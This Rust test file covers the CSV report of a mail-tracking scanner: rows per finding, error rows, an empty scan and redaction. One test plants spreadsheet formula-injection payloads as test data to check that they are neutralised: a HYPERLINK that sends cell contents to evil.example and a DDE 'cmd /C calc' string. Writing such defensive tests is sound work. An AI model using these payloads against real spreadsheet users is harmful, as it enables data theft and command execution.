//! `--format csv`: the report as a table a spreadsheet opens, one row per finding, with errors
//! as rows too, and nothing a stranger wrote able to run as a formula.

use crate::common::*;
use std::collections::BTreeMap;

/// Rows of an RFC 4180 table (quoted fields may hold commas, quotes and line breaks).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(
        !quoted && cell.is_empty() && row.is_empty(),
        "the table ends a row"
    );
    rows
}

/// The table as one map per row, column name → cell.
fn table(args: &[&str]) -> Vec<BTreeMap<String, String>> {
    let output = mailtrace(args, None);
    assert!(output.status.success(), "{output:?}");
    let rows = parse_csv(&String::from_utf8(output.stdout).unwrap());
    let (header, rows) = rows.split_first().expect("a header row");
    rows.iter()
        .map(|row| {
            assert_eq!(row.len(), header.len(), "{row:?}");
            header.iter().cloned().zip(row.iter().cloned()).collect()
        })
        .collect()
}

#[test]
fn the_table_holds_every_finding_of_the_json_report() {
    let demo = fixture_arg("demo.mbox");
    let rows = table(&["scan", "-q", "--format", "csv", &demo]);
    let report = scan_with(&[fixture("demo.mbox")], |o| o.keep_clean_messages = false);
    let mut expected: Vec<(String, String, String, String)> = Vec::new();
    for message in &report.messages {
        for finding in &message.findings {
            expected.push((
                message.locator.offset.unwrap().to_string(),
                finding.technique.clone(),
                finding
                    .url
                    .clone()
                    .or(finding.header.clone())
                    .unwrap_or_default(),
                message.read.map(|r| r.to_string()).unwrap_or_default(),
            ));
        }
    }
    let found: Vec<(String, String, String, String)> = rows
        .iter()
        .map(|row| {
            assert_eq!(row["record"], "finding");
            let about = if row["url"].is_empty() {
                &row["header"]
            } else {
                &row["url"]
            };
            (
                row["offset"].clone(),
                row["technique"].clone(),
                about.clone(),
                row["read"].clone(),
            )
        })
        .collect();
    assert_eq!(found, expected);
    assert!(rows
        .iter()
        .any(|row| row["subject"].contains(", issue 112:")));
}

#[test]
fn errors_and_clean_messages_are_rows_too() {
    let formats = fixture_arg("formats");
    let rows = table(&["scan", "-q", "--all-messages", "--format", "csv", &formats]);
    let errors: Vec<_> = rows.iter().filter(|row| row["record"] == "error").collect();
    assert_eq!(errors.len(), 2);
    assert!(errors
        .iter()
        .any(|row| row["path"].ends_with("preamble.mbox") && row["error"].contains("From")));
    assert!(errors
        .iter()
        .any(|row| row["entry"] == "letters/e.eml" && row["error"].contains("PPMD")));
    // Every message is in the table: 57, clean ones as one row without a finding.
    let mut messages: Vec<(&str, &str, &str)> = rows
        .iter()
        .filter(|row| row["record"] != "error")
        .map(|row| {
            (
                row["path"].as_str(),
                row["entry"].as_str(),
                row["offset"].as_str(),
            )
        })
        .collect();
    messages.dedup();
    assert_eq!(messages.len(), 57);
    let clean = rows.iter().find(|row| row["record"] == "message").unwrap();
    assert!(clean["kind"].is_empty() && clean["technique"].is_empty());
}

#[test]
fn a_stranger_cannot_plant_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hostile.eml");
    std::fs::write(
        &path,
        "From: \"x\" <news@shop.example>\r\nTo: reader@example.org\r\n\
         Subject: =HYPERLINK(\"https://evil.example/?\"&A1, \"win\")\r\n\
         Message-ID: <=cmd|' /C calc'!A0@shop.example>\r\n\
         Content-Type: text/html\r\n\r\n\
         <img src=\"https://t.shop.example/open/3f9a7c2e5b1d4a6f8e0c\" width=1 height=1>\r\n",
    )
    .unwrap();
    let rows = table(&["scan", "-q", "--format", "csv", path.to_str().unwrap()]);
    assert_eq!(rows.len(), 1, "{rows:?}");
    let row = &rows[0];
    assert_eq!(
        row["subject"],
        "'=HYPERLINK(\"https://evil.example/?\"&A1, \"win\")"
    );
    assert_eq!(row["message_id"], "<=cmd|' /C calc'!A0@shop.example>");
    assert_eq!(row["kind"], "pixel");
}

#[test]
fn an_empty_scan_is_a_header_row_alone() {
    let dir = tempfile::tempdir().unwrap();
    let rows = table(&[
        "scan",
        "-q",
        "--format",
        "csv",
        dir.path().to_str().unwrap(),
    ]);
    assert!(rows.is_empty());
}

#[test]
fn a_redacted_table_names_no_reader() {
    let techniques = fixture_arg("techniques");
    let plain = table(&["scan", "-q", "--format", "csv", &techniques]);
    let redacted = table(&["scan", "-q", "--format", "csv", "--redact", &techniques]);
    assert_eq!(plain.len(), redacted.len());
    let mentions = |rows: &[BTreeMap<String, String>]| {
        rows.iter()
            .filter(|row| row.values().any(|cell| cell.contains("reader@example.org")))
            .count()
    };
    assert!(mentions(&plain) > 0);
    assert_eq!(mentions(&redacted), 0);
}
